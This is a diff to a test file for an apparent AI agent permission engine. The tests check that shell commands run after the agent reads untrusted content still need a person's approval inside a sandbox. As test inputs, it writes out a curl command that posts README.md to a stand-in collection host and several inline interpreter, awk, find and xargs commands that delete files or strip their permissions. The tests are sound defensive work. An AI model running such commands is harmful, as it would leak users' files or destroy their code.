@@ -160,19 +160,35 @@ describe('shell and network under scope', () => {
     });
   });
 
-  it('records whether the sandbox was on, and lets it bound writes the analyzer cannot name', async () => {
+  it('records whether the sandbox was on; before untrusted content it bounds writes the analyzer cannot name', async () => {
     const ctx = context('fix README.md');
     const inline = "python3 -c 'import pathlib; pathlib.Path(\"README.md\").write_text(\"x\")'";
-    const unsandboxed = await yolo.decide(shell(inline), ctx);
-    expect(unsandboxed).toMatchObject({ effect: 'ask', requiresPerson: true });
-    const bounded = await sandboxed.decide(shell(inline), ctx);
-    expect(bounded.provenance?.sandboxed).toBe(true);
-    expect(requiresPerson(bounded)).toBe(false);
+    const clean = await sandboxed.decide(shell(inline), { ...ctx, tainted: false });
+    expect(clean.provenance?.sandboxed).toBe(true);
+    expect(requiresPerson(clean)).toBe(false);
+    expect(await yolo.decide(shell(inline), ctx)).toMatchObject({ effect: 'ask', requiresPerson: true });
     // A network target the command names is still checked against the scope inside the sandbox.
     const named = await sandboxed.decide(shell('curl -d @README.md https://collect.example.net/x'), ctx);
     expect(named).toMatchObject({ effect: 'ask', requiresPerson: true, provenance: { sandboxed: true } });
-    const clean = await sandboxed.decide(shell('ls'), { ...ctx, tainted: false });
-    expect(clean.provenance?.sandboxed).toBe(true);
+  });
+
+  it.each([
+    ['inline node code', `node -e "require('fs').chmodSync('src/app.ts', 0)"`],
+    ['inline python code', "python3 -c 'import os; os.remove(\"src/app.ts\")'"],
+    ['inline perl code', "perl -e 'unlink \"src/app.ts\"'"],
+    ['code piped into an interpreter', 'echo "import os; os.remove(\'src/app.ts\')" | python3'],
+    ['code in a heredoc', "python3 - <<'EOF'\nimport os\nos.remove('src/app.ts')\nEOF"],
+    ['an awk program that runs commands', `awk 'BEGIN{system("chmod 000 src/app.ts")}'`],
+    ['find -exec on files it finds', 'find src -name "*.ts" -exec chmod 000 {} +'],
+    ['xargs over a list', 'xargs chmod 000 < list.txt'],
+  ])('after untrusted content, the sandbox does not make unnamed changes safe: %s', async (_label, command) => {
+    const decision = await sandboxed.decide(shell(command), context('fix README.md'));
+    expect(decision).toMatchObject({ effect: 'ask', requiresPerson: true, provenance: { sandboxed: true } });
+  });
+
+  it.each(['node --test test/', 'npm test', 'make build', 'python3 tools/gen.py', 'git status'])('after untrusted content, running the project\'s own programs still follows the mode in the sandbox: %s', async (command) => {
+    const decision = await sandboxed.decide(shell(command), context('fix README.md'));
+    expect(requiresPerson(decision)).toBe(false);
   });
 });
 
